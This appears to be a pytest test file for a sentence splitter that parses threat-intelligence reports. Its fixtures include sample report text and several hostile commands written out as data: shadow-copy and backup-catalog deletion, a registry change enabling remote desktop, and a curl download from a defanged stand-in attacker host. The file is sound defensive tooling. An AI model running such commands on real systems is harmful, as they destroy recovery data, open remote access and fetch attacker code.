"""Sentences as an analyst would draw them."""

from __future__ import annotations

import pytest

from tram_ext.documents import split_sentences
from tram_ext.domain.errors import Invalid


def _split(text):
    return [" ".join(text[span.start : span.end].split()) for span in split_sentences(text)]


@pytest.mark.parametrize(
    "sentences",
    [
        ["It starts svchost.exe.", "It then waits."],
        ["The tool was renamed.", "svchost.exe was its new name."],
        ["The loader ran.", "cmd.exe /c whoami followed."],
        ["It used tools, e.g. Mimikatz, to dump hashes.", "Then it left."],
        ["The server (i.e. 10.0.0.1) answered.", "Nothing else did."],
        ["It beacons to hxxp://evil[.]com/a.php.", "The answer is encrypted."],
        ["Version 2.1.3 was hit.", "Version 2.2 was not."],
        ["See Fig. 3 for details.", "It shows the chain."],
        ["Apache HTTP Server v. 2.4 is affected."],
        ["The U.S. government warned of it.", "Others followed."],
        ["It was seen in the U.S.", "They did not say where."],
        ["Mr. Smith vs. the state was the lure.", "It worked."],
        ["The group (also known as APT29) is patient.", "It waits."],
        ["It writes HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run.", "It survives a restart."],
        ["It drops C:\\Windows\\Temp\\a.dll.", "The file is signed."],
        ["Files get the suffix .ryk.", "A note is left."],
        ["The malware asks: \u201cWho are you?\u201d", "It then exits."],
        ["It exfiltrates data (see Section 4.2).", "The archive is encrypted."],
        ["It retains some of the old code.", "For example, the marker is the same."],
        ["The campaign went on for weeks.[1]", "The group changed its servers."],
        ["This was done by others too.2", "The servers differ."],
        ["CVE-2020-1472 was used.", "CVE-2019-0708 was not."],
        ["It ran at 10 a.m. and again at 4 p.m. on the same day."],
        ["Did it work?", "It did!", "Nobody noticed."],
        ["It contacts api.ipify.org, ipinfo.io, etc. to learn its address."],
        ["Contact soc@example.com.", "Include the hash."],
        ["The key is 0xB9.", "It is fixed."],
        ["Figure 3. The chain of infection."],
        ["Table 2-1. Indicators of the group.", "They are defanged."],
        ["The chain is shown in Figure 3.", "Two stages are missing."],
    ],
)
def test_sentences_of_this_field(sentences):
    assert _split(" ".join(sentences)) == sentences


def test_offsets_point_into_the_text_as_it_is():
    text = "  One is here.\n\n\tTwo is longer than\nit.  Three. "
    spans = split_sentences(text)

    assert [text[span.start : span.end] for span in spans] == ["One is here.", "Two is longer than\nit.", "Three."]


def test_bullets_are_items_and_not_part_of_them():
    text = "It does this:\n- stops services\n* deletes copies\n\u2022 writes a note\n1. waits\n2) exits"

    assert _split(text) == [
        "It does this:",
        "stops services",
        "deletes copies",
        "writes a note",
        "waits",
        "exits",
    ]


def test_hard_wrapped_lines_are_joined():
    text = (
        "Slate Otter sends invoices with macros to the accountants of its\n"
        "victims and waits until they are opened by one of them. PowerShell\n"
        "Empire is loaded then, from a server that was set up for this alone\n"
        "and that is gone a day later.\n"
    )

    assert len(_split(text)) == 2


def test_a_number_at_a_wrapped_line_is_no_bullet_unless_it_begins_or_continues_a_list():
    text = (
        "Slate Otter sends invoices to accountants, and only to those with Windows\n"
        "10. The macros do not run elsewhere. The victims may call the helpdesk at\n"
        "(855) 292-3937 at any time, which they do. It does these things in order:\n"
        "1. It starts PowerShell with a window that nobody sees, and waits for it to\n"
        "2. It ends\n"
    )

    assert _split(text) == [
        "Slate Otter sends invoices to accountants, and only to those with Windows 10.",
        "The macros do not run elsewhere.",
        "The victims may call the helpdesk at (855) 292-3937 at any time, which they do.",
        "It does these things in order:",
        "It starts PowerShell with a window that nobody sees, and waits for it to",
        "It ends",
    ]


def test_rows_that_are_aligned_by_spaces_are_cells_and_a_cell_may_go_on_below():
    text = (
        "TLP:CLEAR                               First published: 9 September 2025\n"
        "=========================================================================\n"
        "Date          What was seen in the network of the victim in that time\n"
        "2025-08-07    First logon to the VPN with the account of a contractor, at\n"
        "              night\n"
        "2025-08-08    Network scan\n"
    )

    assert _split(text) == [
        "TLP:CLEAR",
        "First published: 9 September 2025",
        "Date",
        "What was seen in the network of the victim in that time",
        "2025-08-07",
        "First logon to the VPN with the account of a contractor, at night",
        "2025-08-08",
        "Network scan",
    ]


def test_a_wide_space_inside_of_prose_parts_no_cells():
    assert _split("In April the group    used a web shell.    It was simple.") == [
        "In April the group used a web shell.",
        "It was simple.",
    ]


def test_the_commands_of_an_indented_listing_are_apart_and_their_continuations_are_not():
    text = (
        "They switched off what could have helped the victim to get back on its feet:\n"
        "\n"
        "    vssadmin.exe delete shadows /all /quiet\n"
        "    wbadmin.exe delete catalog -quiet\n"
        '    reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server"\n'
        "        /v fDenyTSConnections /t REG_DWORD /d 0 /f\n"
        "    curl -s hxxp://evil[.]example/a \\\n"
        "    -o /tmp/a\n"
        "\n"
        "    An indented paragraph of plain words is no listing, however far its\n"
        "    lines stand from the margin of the page.\n"
    )

    assert _split(text)[1:] == [
        "vssadmin.exe delete shadows /all /quiet",
        "wbadmin.exe delete catalog -quiet",
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
        "curl -s hxxp://evil[.]example/a \\ -o /tmp/a",
        "An indented paragraph of plain words is no listing, however far its lines stand from the margin of the page.",
    ]


def test_items_pasted_from_a_word_processor_lose_their_numbers():
    assert _split("1.\xa0\xa0 It waits\n2.\xa0\xa0 It exits") == ["It waits", "It exits"]


def test_sentences_without_spaces_between_them_end_at_their_own_full_stop():
    assert _split(
        "\u653b\u6483\u8005\u306f\u5f85\u3064\u3002\u300c\u7d42\u308f\u3063\u305f\u3002\u300d\u3068\u8a00\u3063\u305f\u3002"
    ) == [
        "\u653b\u6483\u8005\u306f\u5f85\u3064\u3002",
        "\u300c\u7d42\u308f\u3063\u305f\u3002\u300d",
        "\u3068\u8a00\u3063\u305f\u3002",
    ]


def test_headings_commands_and_cells_stand_alone():
    text = "Execution\nThe loader runs.\nvssadmin delete shadows /all /quiet & exit\nT1055\tProcess Injection\n"

    assert _split(text) == [
        "Execution",
        "The loader runs.",
        "vssadmin delete shadows /all /quiet & exit",
        "T1055",
        "Process Injection",
    ]


def test_what_says_nothing_is_no_sentence():
    assert _split("It waits.\n\n-----\n\n* * *\n\nIt exits.") == ["It waits.", "It exits."]


def test_no_sentence_is_endless():
    assert max(len(sentence) for sentence in _split("word " * 5_000)) <= 2_000


@pytest.mark.parametrize("text", ["", "  \n\t ", "\0\0", "....", "\ufeff"])
def test_text_without_words_is_refused(text):
    with pytest.raises(Invalid, match=r"empty|no words"):
        split_sentences(text)
